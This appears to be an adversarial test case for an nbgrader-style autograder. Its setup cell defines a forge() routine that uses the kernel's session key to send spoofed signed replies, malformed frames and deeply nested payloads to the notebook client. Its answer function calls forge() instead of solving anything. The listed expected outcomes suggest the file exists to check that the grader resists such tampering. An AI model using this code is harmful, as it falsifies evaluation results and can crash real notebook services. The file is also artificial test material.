"""Send the notebook's client signed messages of one's own: results, replies, nonsense, and bytes that are no message.

Known to work against stock nbgrader: a client believes whoever holds the connection's key.
"""
OUTCOME = ("failed", "crashed", "timed out")
CELLS_AFTER = ["forge()"]
CELLS_BEFORE = [
    """
import os
shell = get_ipython()
kernel = shell.kernel


def forge():
    parent = kernel.get_parent("shell")
    for content in ({"status": "ok"}, {}, [], "ok", {"status": 7}, None, {"status": "error", "ename": 5, "evalue": []}):
        for kind in ("execute_reply", "status", "display_data", "stream", "error", "comm_open", "shutdown_reply"):
            for socket in (kernel.iopub_socket, kernel.shell_stream):
                kernel.session.send(socket, kind, content, parent=parent, ident=kernel._shell_parent_ident.get() if hasattr(kernel, "_shell_parent_ident") else None)
    for raw in ([b""], [b"<IDS|MSG>"], [b"<IDS|MSG>", b"bad signature", b"{}", b"{}", b"{}", b"{}"], [b"x"] * 50):
        kernel.iopub_socket.send_multipart(raw)
    deep = b"[" * 100_000 + b"]" * 100_000
    for header in (b"{}", b"[]", b'{"msg_type": "stream", "msg_id": "x"}', deep):
        frames = [header, b"{}", b"{}", deep]
        kernel.iopub_socket.send_multipart([b"stream", b"<IDS|MSG>", kernel.session.sign(frames), *frames])


forge()
"""
]

# --- the answer ---
def answer(*values, **options):
    forge()
    return 1
